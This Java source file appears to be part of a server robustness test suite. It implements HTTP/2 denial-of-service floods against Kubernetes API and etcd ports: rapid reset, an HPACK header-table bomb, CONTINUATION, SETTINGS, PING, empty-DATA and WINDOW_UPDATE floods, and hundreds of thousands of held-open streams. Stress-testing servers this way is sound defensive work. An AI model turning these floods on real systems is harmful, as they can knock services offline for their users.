package dev.pintle.bench.hostile;

import dev.pintle.bench.client.Http2Connection;
import dev.pintle.bench.client.Http2Frames;
import dev.pintle.bench.client.ServerAddress;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/// Floods of HTTP/2's own making, at both ports. Nobody shows a token.
public final class StreamAttacks {
  private static final int CONNECTIONS = 50;
  private static final int STREAMS = 400_000;
  private static final int FEW = 8;
  private static final int BATCH = 200;
  private static final int BLOCK_BYTES = 16_000;
  private static final String HELD = "open|goaway|closed";

  private StreamAttacks() {}

  public static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    for (Side side : Side.values()) {
      all.add(openStreams(side));
      all.add(flood(side, "rapid reset", StreamAttacks::resets, true));
      all.add(flood(side, "a header table used 16 000 times a request", StreamAttacks::bomb, true));
      all.add(flood(side, "CONTINUATION without end", StreamAttacks::continuations, true));
      all.add(flood(side, "SETTINGS unread", StreamAttacks::settings, false));
      all.add(flood(side, "PING unread", StreamAttacks::pings, false));
      all.add(flood(side, "empty DATA", StreamAttacks::emptyData, true));
      all.add(flood(side, "WINDOW_UPDATE of one byte", StreamAttacks::windows, true));
      all.add(flood(side, "requests unread", StreamAttacks::requests, false));
    }
    return all;
  }

  /// One of the two ports.
  enum Side {
    KUBE,
    ETCD;

    ServerAddress of(AttackedServer victim) {
      return switch (this) {
        case KUBE -> victim.kubeAddress();
        case ETCD -> victim.etcdAddress();
      };
    }

    byte[] post() {
      return switch (this) {
        case KUBE ->
            Http2Frames.block(
                ":method",
                "PUT",
                ":scheme",
                "https",
                ":authority",
                "x",
                ":path",
                "/api/v1/namespaces/default/configmaps/x",
                "content-type",
                "application/json");
        case ETCD ->
            Http2Frames.block(
                ":method",
                "POST",
                ":scheme",
                "http",
                ":authority",
                "x",
                ":path",
                "/etcdserverpb.KV/Put",
                "content-type",
                "application/grpc",
                "te",
                "trailers");
      };
    }

    byte[] get() {
      return Http2Frames.block(
          ":method",
          "GET",
          ":scheme",
          this == KUBE ? "https" : "http",
          ":authority",
          "x",
          ":path",
          "/version");
    }
  }

  /// The frames of one round; streams are numbered from `stream` on.
  private interface Round {
    void write(Http2Frames frames, Side side, int stream);
  }

  private static Attack openStreams(Side side) {
    return Attack.of(
        "400 000 open requests, " + side,
        strike -> {
          int each = strike.share(STREAMS) / CONNECTIONS;
          byte[] block = side.post();
          strike.inParallel(
              CONNECTIONS,
              _ -> {
                Http2Connection connection =
                    strike.keep(Http2Connection.open(side.of(strike.victim())));
                for (int i = 0; i < each && !connection.ended(); i += BATCH) {
                  Http2Frames frames = new Http2Frames();
                  for (int j = i; j < i + BATCH; j++) {
                    frames.headers(1 + 2 * j, block, false);
                  }
                  connection.write(frames.done());
                }
                strike.count(connection.ended() ? "goaway" : "open");
              });
          strike.hold();
        },
        HELD);
  }

  private static Attack flood(Side side, String name, Round round, boolean reads) {
    return Attack.of(
        name + ", " + side,
        strike ->
            strike.inParallel(
                FEW,
                _ -> {
                  ServerAddress at = side.of(strike.victim());
                  do {
                    strike.count(
                        reads ? heard(strike, at, side, round) : unheard(strike, at, side, round));
                  } while (strike.goesOn());
                }),
        HELD);
  }

  private static String heard(AttackRun strike, ServerAddress at, Side side, Round round) {
    try (Http2Connection connection = Http2Connection.open(at)) {
      int stream = 1;
      do {
        Http2Frames frames = new Http2Frames();
        round.write(frames, side, stream);
        connection.write(frames.done());
        stream += 2 * BATCH;
      } while (strike.goesOn() && !connection.ended());
      return connection.ended() ? "goaway" : "open";
    } catch (IOException ended) {
      return "closed";
    }
  }

  /// What the server answers is never read, so a write may stay where it is: it is left alone with its thread.
  private static String unheard(AttackRun strike, ServerAddress at, Side side, Round round)
      throws IOException, InterruptedException {
    Http2Connection connection = strike.keep(Http2Connection.deaf(at));
    Thread writer =
        Thread.ofVirtual()
            .start(() -> {
              try {
                for (int stream = 1; strike.goesOn(); stream += 2 * BATCH) {
                  Http2Frames frames = new Http2Frames();
                  round.write(frames, side, stream);
                  connection.write(frames.done());
                }
              } catch (IOException ended) {
                strike.count("closed");
              }
            });
    writer.join(strike.remaining());
    return "open";
  }

  private static void resets(Http2Frames frames, Side side, int stream) {
    for (int i = 0; i < BATCH; i++) {
      frames.headers(stream + 2 * i, side.post(), false).cancel(stream + 2 * i);
    }
  }

  private static void requests(Http2Frames frames, Side side, int stream) {
    for (int i = 0; i < BATCH; i++) {
      frames.headers(stream + 2 * i, side.get(), true);
    }
  }

  private static void bomb(Http2Frames frames, Side side, int stream) {
    if (stream == 1) {
      frames.headers(
          stream, concat(side.get(), Http2Frames.remembered("x", "y".repeat(3900))), true);
      return;
    }
    byte[] again = new byte[BLOCK_BYTES];
    Arrays.fill(again, (byte) (0x80 | 62)); // the newest entry of the table
    frames.headers(stream, concat(side.get(), again), true);
  }

  private static void continuations(Http2Frames frames, Side side, int stream) {
    if (stream == 1) {
      frames.frame(Http2Frames.HEADERS, 0, stream, side.get());
    }
    for (int i = 0; i < BATCH; i++) {
      frames.frame(Http2Frames.CONTINUATION, 0, 1, Http2Frames.block("x", "y"));
    }
  }

  private static void settings(Http2Frames frames, Side side, int stream) {
    for (int i = 0; i < BATCH; i++) {
      frames.frame(Http2Frames.SETTINGS, 0, 0, new byte[] {0, 4, 0, 1, 0, (byte) i});
    }
  }

  private static void pings(Http2Frames frames, Side side, int stream) {
    for (int i = 0; i < BATCH; i++) {
      frames.frame(Http2Frames.PING, 0, 0, new byte[8]);
    }
  }

  private static void emptyData(Http2Frames frames, Side side, int stream) {
    if (stream == 1) {
      frames.headers(1, side.post(), false);
    }
    for (int i = 0; i < BATCH; i++) {
      frames.frame(Http2Frames.DATA, 0, 1, new byte[0]);
    }
  }

  private static void windows(Http2Frames frames, Side side, int stream) {
    if (stream == 1) {
      frames.headers(1, side.post(), false);
    }
    for (int i = 0; i < BATCH; i++) {
      frames.frame(Http2Frames.WINDOW_UPDATE, 0, i % 2, new byte[] {0, 0, 0, 1});
    }
  }

  private static byte[] concat(byte[] first, byte[] second) {
    byte[] both = Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, both, first.length, second.length);
    return both;
  }
}
